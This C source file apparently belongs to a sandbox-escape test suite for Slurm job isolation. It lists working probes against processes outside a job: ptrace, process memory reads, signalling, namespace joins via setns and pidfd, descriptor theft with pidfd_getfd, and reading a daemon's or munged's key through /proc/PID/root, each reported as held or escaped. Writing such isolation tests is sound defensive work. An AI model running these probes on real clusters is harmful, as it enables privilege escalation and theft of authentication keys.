/* SPDX-License-Identifier: Apache-2.0 */
/* Processes outside: seen, signalled, traced, steered, or borrowed. VICTIM is root's, DAEMON another's. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/kcmp.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#include "attack.h"

/* Hidden processes can be guessed. At level pid the same number is
 * nobody's here, or one of our own. So the name decides, where there is one to see. */
pid_t outside_process(const char *variable, const char *name)
{
	pid_t pid = (pid_t)given_number(variable);
	char path[64], comm[32] = "";

	if (is_own_pid_namespace()) {
		/* The number is another's, or nobody's. 1 is the namespace's init, which may have slurmstepd's name. */
		pid = find_process(name);
		errno = 0;
		if (pid <= 1)
			held("no %s in a PID namespace of its own", name);
	}

	snprintf(path, sizeof(path), "/proc/%d/comm", (int)pid);
	int fd = open(path, O_RDONLY);
	ssize_t length = fd < 0 ? 0 : read(fd, comm, sizeof(comm) - 1);
	if (fd >= 0)
		close(fd);
	errno = 0;
	if (length > 0 && strncmp(comm, name, strlen(name)))
		held("process %d here is %s", (int)pid, strtok(comm, "\n"));
	return pid;
}

static pid_t victim(void)
{
	return outside_process("VICTIM", "escape-victim");
}

static pid_t slurmd(void)
{
	return outside_process("SLURMD", "slurmd");
}

static void see_processes(void)
{
	static const char *const names[] = { "slurmd", "munged", "sackd", "key-keeper", "escape-victim", NULL };

	for (const char *const *name = names; *name; name++) {
		pid_t pid = find_process(*name);
		if (pid)
			escaped("%s is process %d", *name, (int)pid);
	}
	errno = 0;
	held("no process of the outside in /proc");
}

static void trace(pid_t pid)
{
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL))
		held("ptrace %d", (int)pid);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
	escaped("process %d was traced", (int)pid);
}

static void trace_victim(void)
{
	trace(victim());
}

static void trace_slurmd(void)
{
	trace(slurmd());
}

/* The step's own; 0 is a parent that a PID namespace hides. */
static void trace_slurmstepd(void)
{
	pid_t pid = (pid_t)given_number("STEPD");

	errno = 0;
	if (!pid)
		held("slurmstepd has no number here");
	trace(outside_process("STEPD", "slurmstepd"));
}

static void read_memory(void)
{
	char byte;
	struct iovec local = { &byte, 1 }, remote = { (void *)0x1000, 1 };

	/* EFAULT comes after the permission. */
	if (process_vm_readv(victim(), &local, 1, &remote, 1, 0) < 0 && errno != EFAULT)
		held("process_vm_readv");
	escaped("the victim's memory can be read");
}

static void compare_kernel_pointers(void)
{
	pid_t pid = victim();

	if (syscall(SYS_kcmp, pid, pid, KCMP_FILES, 0, 0) < 0)
		held("kcmp");
	escaped("kcmp of the victim is allowed");
}

static void send_signal(pid_t pid)
{
	if (kill(pid, 0))
		held("kill %d", (int)pid);
	escaped("process %d can be signalled", (int)pid);
}

static void signal_victim(void)
{
	send_signal(victim());
}

static void change_priority(void)
{
	pid_t pid = victim();
	errno = 0;
	int now = getpriority(PRIO_PROCESS, (id_t)pid);

	if ((now == -1 && errno) || setpriority(PRIO_PROCESS, (id_t)pid, now))
		held("setpriority %d", (int)pid);
	escaped("the victim's priority was set");
}

static void change_affinity(void)
{
	cpu_set_t set;
	pid_t pid = victim();

	if (sched_getaffinity(pid, sizeof(set), &set) || sched_setaffinity(pid, sizeof(set), &set))
		held("sched_setaffinity %d", (int)pid);
	escaped("the victim's processors were set");
}

static void change_limits(void)
{
	struct rlimit limit;
	pid_t pid = victim();

	if (prlimit(pid, RLIMIT_CORE, NULL, &limit) || prlimit(pid, RLIMIT_CORE, &limit, NULL))
		held("prlimit %d", (int)pid);
	escaped("the victim's limits were set");
}

static void change_oom_score(void)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/oom_score_adj", (int)victim());
	write_back(path);
}

static int open_process(pid_t pid)
{
	int fd = (int)syscall(SYS_pidfd_open, pid, 0);

	if (fd < 0)
		held("pidfd_open %d", (int)pid);
	return fd;
}

static void join(int namespace, const char *what)
{
	if (namespace < 0 || setns(namespace, CLONE_NEWNS))
		held("setns to %s", what);
	read_canary_at(AT_FDCWD, "");
	escaped("joined %s", what);
}

static void join_init(void)
{
	join(open("/proc/1/ns/mnt", O_RDONLY), "the mount namespace of process 1");
}

static void join_by_pidfd(void)
{
	join(open_process(victim()), "the victim's mount namespace, by pidfd");
}

static void steal_descriptor(void)
{
	/* 0 of the victim, whatever it is. */
	if (syscall(SYS_pidfd_getfd, open_process(victim()), 0, 0) < 0)
		held("pidfd_getfd");
	escaped("a descriptor of the victim was taken");
}

/* Root may be anyone. Another user's daemon outside has no capability that we lack. */
static void become(const char *name)
{
	unsigned id = (unsigned)given_number(name);

	if (setgroups(0, NULL) || setresgid(id, id, id) || setresuid(id, id, id))
		held("become user %u", id);
}

static void borrow_root(const char *daemon)
{
	char path[512], secret[65] = "";

	snprintf(path, sizeof(path), "/proc/%s/root%s", given(daemon), given("DAEMON_FILE"));
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		held("open %s", path);
	if (read(fd, secret, sizeof(secret) - 1) < 0)
		held("read %s", path);
	escaped("%s holds %s", path, secret);
}

static void daemons_root(void)
{
	become("DAEMON_UID");
	borrow_root("DAEMON");
}

static void daemon_traced(void)
{
	become("DAEMON_UID");
	trace((pid_t)given_number("DAEMON"));
}

static void mungeds_root(void)
{
	char path[128];

	become("MUNGE_UID");
	snprintf(path, sizeof(path), "/proc/%ld/root%s", given_number("MUNGED"), given("KEY"));
	if (open(path, O_RDONLY) < 0)
		held("open %s", path);
	escaped("%s can be read", path);
}

const struct attack process_attacks[] = {
	{ "see-processes", see_processes },
	{ "trace-victim", trace_victim },
	{ "trace-slurmd", trace_slurmd },
	{ "trace-slurmstepd", trace_slurmstepd },
	{ "read-memory", read_memory },
	{ "compare-pointers", compare_kernel_pointers },
	{ "signal-victim", signal_victim },
	{ "change-priority", change_priority },
	{ "change-affinity", change_affinity },
	{ "change-limits", change_limits },
	{ "change-oom-score", change_oom_score },
	{ "join-init", join_init },
	{ "join-by-pidfd", join_by_pidfd },
	{ "steal-descriptor", steal_descriptor },
	{ "daemons-root", daemons_root },
	{ "daemon-traced", daemon_traced },
	{ "mungeds-root", mungeds_root },
	{ NULL, NULL },
};
